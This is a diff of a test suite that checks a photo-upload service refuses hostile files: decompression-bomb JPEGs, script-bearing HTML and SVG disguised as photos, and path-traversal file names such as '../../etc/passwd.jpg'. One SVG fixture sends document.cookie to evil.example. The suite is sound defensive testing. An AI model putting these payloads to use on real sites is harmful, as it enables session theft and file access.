@@ -27,8 +27,12 @@ let root: string;
 beforeAll(async () => {
   root = await mkdtemp(join(tmpdir(), 'ch-hostile-'));
   const env = testEnv({
-    DATA_DIR: join(root, 'data'), LOCAL_IMPORT_ROOTS: join(root, 'imports'), UPLOAD_MAX_FILE_MB: '1', UPLOAD_MAX_FILES: String(MAX_FILES),
-    IMAGE_MAX_PIXELS: '1000000', RATE_LIMIT_API_PER_MIN: '0',
+    DATA_DIR: join(root, 'data'),
+    LOCAL_IMPORT_ROOTS: join(root, 'imports'),
+    UPLOAD_MAX_FILE_MB: '1',
+    UPLOAD_MAX_FILES: String(MAX_FILES),
+    IMAGE_MAX_PIXELS: '1000000',
+    RATE_LIMIT_API_PER_MIN: '0',
   });
   await mkdir(join(root, 'imports', 'library'), { recursive: true });
   app = await startTestApp(env);
@@ -49,13 +53,21 @@ interface FilePart {
 async function upload(cookie: string, files: FilePart[]) {
   const form = new FormData();
   for (const file of files) form.append('photos', new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name);
-  const response = await fetch(`${app.url}/api/uploads`, { method: 'POST', body: form, headers: { origin: app.url, 'x-requested-with': 'concert-history', cookie } });
+  const response = await fetch(`${app.url}/api/uploads`, {
+    method: 'POST',
+    body: form,
+    headers: { origin: app.url, 'x-requested-with': 'concert-history', cookie },
+  });
   return { status: response.status, body: await response.json() };
 }
 
 /** A small real JPEG whose frame header (SOF0) claims width × height pixels: a decompression bomb's header. */
 async function jpegClaiming(width: number, height: number): Promise<Buffer> {
-  const jpeg = Buffer.from(await sharp({ create: { width: 64, height: 48, channels: 3, background: '#334455' } }).jpeg().toBuffer());
+  const jpeg = Buffer.from(
+    await sharp({ create: { width: 64, height: 48, channels: 3, background: '#334455' } })
+      .jpeg()
+      .toBuffer(),
+  );
   const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
   if (sof < 0) throw new Error('no SOF0 marker in the fixture');
   jpeg.writeUInt16BE(height, sof + 5);
@@ -66,23 +78,33 @@ async function jpegClaiming(width: number, height: number): Promise<Buffer> {
 /** An animated GIF of 1200×1200 pixels and six frames (within the pixel limit per frame, so its animation is what refuses it). */
 async function bigAnimatedGif(): Promise<Buffer> {
   const frames = await Promise.all(
-    Array.from({ length: 6 }, (_, i) => sharp({ create: { width: 900, height: 900, channels: 3, background: `#${(i * 40).toString(16).padStart(2, '0')}2040` } }).png().toBuffer()),
+    Array.from({ length: 6 }, (_, i) =>
+      sharp({ create: { width: 900, height: 900, channels: 3, background: `#${(i * 40).toString(16).padStart(2, '0')}2040` } })
+        .png()
+        .toBuffer(),
+    ),
   );
-  return sharp(frames, { join: { animated: true } }).gif({ delay: frames.map(() => 100), loop: 0 }).toBuffer();
+  return sharp(frames, { join: { animated: true } })
+    .gif({ delay: frames.map(() => 100), loop: 0 })
+    .toBuffer();
 }
 
 const scriptedSvg = () =>
   Buffer.from(svgDrawing().toString('utf8').replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>'));
 
 describe('uploaded files', () => {
-  it('are judged by their content at ingest: each hostile file is refused with its reason, the real photos are kept', async () => {
+  it('are judged by their content: what is no photo is refused at the door, what only looks like one at ingest, each with its reason', async () => {
     const user = await signUp(app, 'hostile');
     const photo = await makeStagePhoto({ seed: 31, width: 800, height: 600 });
     const files: FilePart[] = [
       { name: 'real.jpg', type: 'image/jpeg', bytes: photo },
       { name: 'bomb.jpg', type: 'image/jpeg', bytes: await jpegClaiming(30_000, 30_000) },
       { name: 'truncated.jpg', type: 'image/jpeg', bytes: truncatedCopy(photo) },
-      { name: 'page.jpg', type: 'image/jpeg', bytes: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>') },
+      {
+        name: 'page.jpg',
+        type: 'image/jpeg',
+        bytes: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'),
+      },
       { name: 'text.jpg', type: 'image/jpeg', bytes: Buffer.from('just some notes, not a photo at all') },
       { name: 'actually-png.jpg', type: 'image/jpeg', bytes: await pngCopy(await makeStagePhoto({ seed: 32, width: 320, height: 240 })) },
       { name: 'animated.gif.jpg', type: 'image/jpeg', bytes: await bigAnimatedGif() },
@@ -90,18 +112,21 @@ describe('uploaded files', () => {
     ];
     const { status, body } = await upload(user.jar.cookie!, files);
     expect(status).toBe(200);
-    expect(body.refused).toEqual([]);
+    // By their first bytes, whatever their name and claimed type: never stored.
+    expect(Object.fromEntries((body.refused as Array<{ name: string; reason: string }>).map((file) => [file.name, file.reason]))).toEqual({
+      'page.jpg': expect.stringMatching(/^Not a photo: its content is not an image/),
+      'text.jpg': expect.stringMatching(/^Not a photo: its content is not an image/),
+      'animated.gif.jpg': expect.stringMatching(/^GIF images are not supported, only photos/),
+      'drawing.jpg': expect.stringMatching(/^SVG drawings are not supported/),
+    });
+    expect(await storedKeys(user.user.id)).toHaveLength(4);
 
     const { scanId } = await user.client.scans.start.mutate({ sourceId: body.sourceId });
-    expect((await watchScan(user.client, scanId)).at(-1)).toMatchObject({ status: 'completed', counts: { listed: 8, processed: 2, failed: 6 } });
+    expect((await watchScan(user.client, scanId)).at(-1)).toMatchObject({ status: 'completed', counts: { listed: 4, processed: 2, failed: 2 } });
     const reasons = Object.fromEntries((await user.client.scans.failures.query({ scanId })).map((failure) => [failure.fileName, failure.reason]));
     expect(reasons).toEqual({
       'bomb.jpg': expect.stringMatching(/too large: 30000×30000 pixels is over the limit/),
       'truncated.jpg': expect.stringMatching(/truncated|incomplete|damaged|corrupt/i),
-      'page.jpg': expect.stringMatching(/not a (photo|supported)|not an image/i),
-      'text.jpg': expect.stringMatching(/not a (photo|supported)|not an image/i),
-      'animated.gif.jpg': 'Animated GIFs are not supported, only photos',
-      'drawing.jpg': expect.stringMatching(/^SVG drawings are not supported/),
     });
   });
 
@@ -130,8 +155,20 @@ describe('uploaded files', () => {
   it('never put the client’s file name in a storage key, whatever it contains', async () => {
     const user = await signUp(app, 'names');
     const photo = await makeStagePhoto({ seed: 34, width: 320, height: 240 });
-    const names = ['../../etc/passwd.jpg', '..\\..\\windows\\evil.jpg', '%2e%2e%2fescape.jpg', 'a/../../b.jpg', 'semi;colon=byte.jpg', 'spaces and ünïcödé 🎸.jpg', 'CON.jpg', '.hidden.jpg'];
-    const { body } = await upload(user.jar.cookie!, names.map((name, i) => ({ name, type: 'image/jpeg', bytes: i ? Buffer.concat([photo, Buffer.from([i])]) : photo })));
+    const names = [
+      '../../etc/passwd.jpg',
+      '..\\..\\windows\\evil.jpg',
+      '%2e%2e%2fescape.jpg',
+      'a/../../b.jpg',
+      'semi;colon=byte.jpg',
+      'spaces and ünïcödé 🎸.jpg',
+      'CON.jpg',
+      '.hidden.jpg',
+    ];
+    const { body } = await upload(
+      user.jar.cookie!,
+      names.map((name, i) => ({ name, type: 'image/jpeg', bytes: i ? Buffer.concat([photo, Buffer.from([i])]) : photo })),
+    );
     expect(body.accepted).toHaveLength(names.length);
     // Display names lose any path; they are only ever shown, never used to address anything.
     for (const { name } of body.accepted as Array<{ name: string }>) expect(name).not.toMatch(/[\\/]/);
@@ -142,7 +179,11 @@ describe('uploaded files', () => {
     expect(keys.length).toBeGreaterThan(names.length);
     for (const key of keys) expect(key).toMatch(new RegExp(`^users/${user.user.id}/(uploads/\\d+/[0-9a-f-]{36}|thumbnails/[0-9a-f]{64}\\.webp)$`));
     const fragments = ['passwd', 'etc', 'evil', 'escape', 'windows', 'byte', 'ünïcödé', 'CON', 'hidden', '..', '%2e'];
-    for (const fragment of fragments) expect(keys.filter((key) => key.includes(fragment)), fragment).toEqual([]);
+    for (const fragment of fragments)
+      expect(
+        keys.filter((key) => key.includes(fragment)),
+        fragment,
+      ).toEqual([]);
   });
 });
 
